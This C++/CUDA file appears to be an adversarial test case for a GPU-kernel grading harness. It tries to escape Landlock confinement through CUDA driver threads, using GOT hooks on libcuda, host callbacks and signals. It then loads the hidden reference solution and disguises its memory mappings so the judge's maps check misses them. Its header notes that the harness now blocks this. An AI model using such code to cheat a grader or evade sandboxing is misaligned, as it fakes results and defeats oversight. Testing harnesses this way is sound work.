// expect: 2 too_slow -- gets code run on a CUDA driver thread (Landlock ABI < 8 binds no thread that ran before the domain), loads the compiled reference from there, tries to launder its mappings out of /proc/PID/maps and call it; finds no way in and falls back to a slow kernel
// H100, 2026-11-23, before the runner entered Landlock ahead of CUDA: the escape and the load worked and the laundering (anonymous executable copies) was refused by the seccomp filter (runtime error). Now every thread, the driver's included, is bound: no thread can open the reference.
// Attack: Landlock < ABI 8 binds only the thread that entered it and its children, not the CUDA driver's threads
// started before. Run code on one of them (hook libcuda's GOT for poll/nanosleep/..., cudaLaunchHostFunc, signals),
// from there start a thread that dlopens the reference and replaces its file mappings with anonymous copies (the maps
// check sees nothing), then call it. Stops it: Landlock on every thread (ABI 8 TSYNC, or before CUDA starts threads),
// or no anonymous executable memory (seccomp on PROT_EXEC), or a maps check that flags anonymous r-x regions.
#include <cuda_runtime.h>
#include <dirent.h>
#include <dlfcn.h>
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <link.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include <atomic>
#include <string>
#include <vector>

typedef void (*Solve)(const float*, const float*, float*, int);

__global__ void slow_add(const float* a, const float* b, float* c, int n) {
    for (int i = blockIdx.x * blockDim.x + threadIdx.x; i < n; i += gridDim.x * blockDim.x) c[i] = a[i] + b[i];
}

namespace {

enum State { IDLE, LOADING, READY, FAILED };
std::atomic<int> state{IDLE};
std::atomic<void*> reference_solve{nullptr};
char reference_path[PATH_MAX];  // as the judge was given it
char reference_real[PATH_MAX];  // as /proc/self/maps names it
char how[128] = "nothing";      // which way in worked, for the output
char failure[512] = "";

// ---------------------------------------------------------------- small helpers (async-signal-safe where used)

long tid(void) { return syscall(SYS_gettid); }

std::string read_text(const char* path) {
    std::string text;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return text;
    char buf[8192];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0) text.append(buf, (size_t)n);
    close(fd);
    return text;
}

// The reference's path: the judge's "--reference" argument, else next to the runner ("/.build/runner-...").
bool find_reference(void) {
    std::string cmd = read_text(("/proc/" + std::to_string(getppid()) + "/cmdline").c_str());
    std::vector<std::string> args;
    for (size_t at = 0; at < cmd.size();) {
        size_t end = cmd.find('\0', at);
        if (end == std::string::npos) end = cmd.size();
        args.push_back(cmd.substr(at, end - at));
        at = end + 1;
    }
    std::string path;
    for (size_t i = 0; i + 1 < args.size(); i++)
        if (args[i] == "--reference") path = args[i + 1];
    if (path.empty()) {
        std::string maps = read_text("/proc/self/maps");
        size_t at = maps.find("/.build/runner-");
        if (at == std::string::npos) return false;
        size_t begin = maps.rfind(' ', at) + 1;
        path = maps.substr(begin, at - begin) + "/.build/reference-ex01.so";
    }
    snprintf(reference_path, sizeof reference_path, "%s", path.c_str());
    if (!realpath(reference_path, reference_real))  // stat-only: Landlock does not restrict it
        snprintf(reference_real, sizeof reference_real, "%s", reference_path);
    return true;
}

// ---------------------------------------------------------------- laundering

// Every mapping of `file` replaced by an anonymous one holding the same bytes with the same protection.
bool launder(const char* file) {
    std::string maps = read_text("/proc/self/maps");
    struct Region {
        uintptr_t start, end;
        int prot;
    };
    std::vector<Region> regions;
    for (size_t at = 0; at < maps.size();) {
        size_t end = maps.find('\n', at);
        if (end == std::string::npos) end = maps.size();
        std::string line = maps.substr(at, end - at);
        at = end + 1;
        size_t slash = line.find('/');
        if (slash == std::string::npos || line.compare(slash, std::string::npos, file) != 0) continue;
        unsigned long s, e;
        char perms[8];
        if (sscanf(line.c_str(), "%lx-%lx %7s", &s, &e, perms) != 3) continue;
        int prot = (perms[0] == 'r' ? PROT_READ : 0) | (perms[1] == 'w' ? PROT_WRITE : 0) | (perms[2] == 'x' ? PROT_EXEC : 0);
        regions.push_back({s, e, prot});
    }
    if (regions.empty()) return false;
    for (const Region& r : regions) {
        void* at = (void*)r.start;
        size_t len = r.end - r.start;
        if (r.prot == PROT_NONE) {
            if (mmap(at, len, PROT_NONE, MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0) != at) return false;
            continue;
        }
        void* copy = mmap(nullptr, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (copy == MAP_FAILED) return false;
        if (!(r.prot & PROT_READ)) mprotect(at, len, r.prot | PROT_READ);
        memcpy(copy, at, len);
        if (mmap(at, len, PROT_READ | PROT_WRITE, MAP_FIXED | MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) != at) return false;
        memcpy(at, copy, len);
        mprotect(at, len, r.prot);
        munmap(copy, len);
    }
    return read_text("/proc/self/maps").find(file) == std::string::npos;
}

// ---------------------------------------------------------------- the unconfined thread's work

void* load_reference(void*) {
    void* lib = dlopen(reference_path, RTLD_NOW | RTLD_LOCAL);  // the reference registers its kernels here
    if (!lib) {
        snprintf(failure, sizeof failure, "dlopen from %s: %s", how, dlerror());
        state = FAILED;
        return nullptr;
    }
    void* fn = dlsym(lib, "solve");
    if (!fn || !launder(reference_real)) {
        snprintf(failure, sizeof failure, "loaded from %s, but %s", how, fn ? "could not launder its mappings" : "no solve");
        dlclose(lib);  // better no reference than one the maps check finds
        state = FAILED;
        return nullptr;
    }
    reference_solve = fn;
    state = READY;
    return nullptr;
}

// Threads known to be confined: no second open() per call from them.
std::atomic<long> confined[256];
std::atomic<int> nconfined{0};

bool known_confined(long t) {
    int n = nconfined.load();
    for (int i = 0; i < n && i < 256; i++)
        if (confined[i].load() == t) return true;
    return false;
}

// Called on whatever thread we got: if it can read the reference, it starts the loader.
void try_here(const char* way) {
    if (state.load(std::memory_order_relaxed) != IDLE || !reference_path[0]) return;
    int saved = errno;
    long t = tid();
    if (!known_confined(t)) {
        int fd = open(reference_path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) {
            int i = nconfined.fetch_add(1);
            if (i < 256) confined[i] = t;
        } else {
            close(fd);
            int expected = IDLE;
            if (state.compare_exchange_strong(expected, LOADING)) {
                snprintf(how, sizeof how, "%s (thread %ld)", way, t);
                pthread_attr_t attr;
                pthread_attr_init(&attr);
                pthread_attr_setdetachstate(&attr, PTHREAD_CREATE_DETACHED);
                pthread_t th;
                if (pthread_create(&th, &attr, load_reference, nullptr) != 0) state = FAILED;
                pthread_attr_destroy(&attr);
            }
        }
    }
    errno = saved;
}

// ---------------------------------------------------------------- way 1: libcuda's GOT

typedef long (*Fn6)(long, long, long, long, long, long);
// Calls a driver thread makes while it waits (none takes more than 6 integer arguments).
const char* const hooked[] = {"poll",         "ppoll",      "select",          "pselect",
                              "epoll_wait",   "epoll_pwait", "nanosleep",      "clock_nanosleep",
                              "usleep",       "sched_yield", "sem_wait",       "sem_timedwait",
                              "pthread_cond_wait", "pthread_cond_timedwait", "pthread_cond_clockwait", "read",
                              "recvmsg",      "ioctl",      "pthread_mutex_lock", "sem_clockwait"};
constexpr int kHooks = sizeof hooked / sizeof *hooked;
Fn6 original[kHooks];

template <int I>
long trampoline(long a, long b, long c, long d, long e, long f) {
    try_here("a CUDA driver thread calling through libcuda's GOT");
    return original[I](a, b, c, d, e, f);
}

template <int... I>
struct Table {
    static constexpr Fn6 fns[sizeof...(I)] = {&trampoline<I>...};
};
template <int... I>
constexpr Fn6 Table<I...>::fns[sizeof...(I)];
using Trampolines = Table<0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19>;
static_assert(kHooks == 20, "one trampoline per hooked function");

int hooks_installed;

uintptr_t absolute(uintptr_t base, uintptr_t v) { return v < base ? v + base : v; }

void hook_table(const dl_phdr_info* info, uintptr_t table, size_t size, uintptr_t symtab, uintptr_t strtab) {
    uintptr_t base = info->dlpi_addr;
    if (!table || !size || !symtab || !strtab) return;
    uintptr_t lo = UINTPTR_MAX, hi = 0;  // the object's own span: a slot pointing there is a lazy PLT stub
    for (int i = 0; i < info->dlpi_phnum; i++)
        if (info->dlpi_phdr[i].p_type == PT_LOAD) {
            uintptr_t s = base + info->dlpi_phdr[i].p_vaddr;
            lo = s < lo ? s : lo;
            hi = s + info->dlpi_phdr[i].p_memsz > hi ? s + info->dlpi_phdr[i].p_memsz : hi;
        }
    const ElfW(Rela)* r = (const ElfW(Rela)*)absolute(base, table);
    const ElfW(Sym)* syms = (const ElfW(Sym)*)absolute(base, symtab);
    const char* strs = (const char*)absolute(base, strtab);
    long page = sysconf(_SC_PAGESIZE);
    for (size_t k = 0; k < size / sizeof *r; k++) {
        unsigned type = (unsigned)ELF64_R_TYPE(r[k].r_info);
#if defined(__x86_64__)
        if (type != R_X86_64_JUMP_SLOT && type != R_X86_64_GLOB_DAT) continue;
#elif defined(__aarch64__)
        if (type != R_AARCH64_JUMP_SLOT && type != R_AARCH64_GLOB_DAT) continue;
#endif
        const char* name = strs + syms[ELF64_R_SYM(r[k].r_info)].st_name;
        int which = -1;
        for (int h = 0; h < kHooks; h++)
            if (!strcmp(name, hooked[h])) which = h;
        if (which < 0) continue;
        void** slot = (void**)(base + r[k].r_offset);
        uintptr_t now = (uintptr_t)*slot;
        Fn6 real = (now >= lo && now < hi) ? (Fn6)dlsym(RTLD_DEFAULT, name) : (Fn6)now;
        if (!real) continue;
        if (original[which] && original[which] != real) continue;  // one original per name
        original[which] = real;
        uintptr_t first = (uintptr_t)slot & ~(uintptr_t)(page - 1);
        if (mprotect((void*)first, (size_t)page, PROT_READ | PROT_WRITE) != 0) continue;
        *slot = (void*)Trampolines::fns[which];
        hooks_installed++;
    }
}

int hook_object(dl_phdr_info* info, size_t, void*) {
    if (!info->dlpi_name || !strstr(info->dlpi_name, "libcuda.so")) return 0;
    const ElfW(Dyn)* dyn = nullptr;
    for (int i = 0; i < info->dlpi_phnum; i++)
        if (info->dlpi_phdr[i].p_type == PT_DYNAMIC) dyn = (const ElfW(Dyn)*)(info->dlpi_addr + info->dlpi_phdr[i].p_vaddr);
    if (!dyn) return 0;
    uintptr_t jmprel = 0, rela = 0, symtab = 0, strtab = 0;
    size_t pltrelsz = 0, relasz = 0;
    for (const ElfW(Dyn)* d = dyn; d->d_tag != DT_NULL; d++) {
        switch (d->d_tag) {
        case DT_JMPREL: jmprel = d->d_un.d_ptr; break;
        case DT_PLTRELSZ: pltrelsz = d->d_un.d_val; break;
        case DT_RELA: rela = d->d_un.d_ptr; break;
        case DT_RELASZ: relasz = d->d_un.d_val; break;
        case DT_SYMTAB: symtab = d->d_un.d_ptr; break;
        case DT_STRTAB: strtab = d->d_un.d_ptr; break;
        }
    }
    hook_table(info, jmprel, pltrelsz, symtab, strtab);
    hook_table(info, rela, relasz, symtab, strtab);
    return 0;
}

// ---------------------------------------------------------------- way 2: a host callback

void CUDART_CB host_callback(void*) { try_here("a CUDA host-callback thread"); }

// ---------------------------------------------------------------- way 3: signals to every other thread

void on_signal(int) { try_here("a signal handler"); }

void signal_every_thread(void) {
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_handler = on_signal;
    sa.sa_flags = SA_RESTART;
    sigemptyset(&sa.sa_mask);
    const int sigs[] = {SIGWINCH, SIGURG, SIGUSR2};  // harmless defaults first
    for (int s : sigs) sigaction(s, &sa, nullptr);
    long self = tid();
    if (DIR* d = opendir("/proc/self/task")) {
        while (dirent* e = readdir(d)) {
            long t = atol(e->d_name);
            if (t <= 0 || t == self || known_confined(t)) continue;
            for (int s : sigs) syscall(SYS_tgkill, getpid(), t, s);
        }
        closedir(d);
    }
}

double now_s(void) {
    timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec * 1e-9;
}

// Here, in the loading of our library, nothing may wait for the loader thread: it needs the lock dlopen holds.
__attribute__((constructor)) void start_escape(void) {
    if (!find_reference()) return;
    try_here("the constructor");  // confined here, unless the sandbox is off
    dl_iterate_phdr(hook_object, nullptr);
    cudaStream_t s;
    if (cudaStreamCreateWithFlags(&s, cudaStreamNonBlocking) == cudaSuccess) cudaLaunchHostFunc(s, host_callback, nullptr);
}

}  // namespace

extern "C" void solve(const float* a, const float* b, float* c, int n) {
    static bool waited;
    if (!waited) {  // the first call: give the ways in up to 3 s
        waited = true;
        double start = now_s();
        bool signalled = false;
        while ((state == IDLE || state == LOADING) && now_s() - start < 3.0) {
            if (!signalled && state == IDLE && now_s() - start > 0.3) {
                signal_every_thread();
                signalled = true;
            }
            usleep(1000);
        }
        fprintf(stderr, "landlock_thread_escape: reference %s; %d GOT hooks in libcuda; %s%s%s\n", reference_path,
                hooks_installed,
                state == READY ? "calling the reference, reached through " : "no way in: ", state == READY ? how : "",
                failure);
    }
    if (state == READY) {
        ((Solve)reference_solve.load())(a, b, c, n);
        return;
    }
    if (n > 0) slow_add<<<64, 64>>>(a, b, c, n);
}
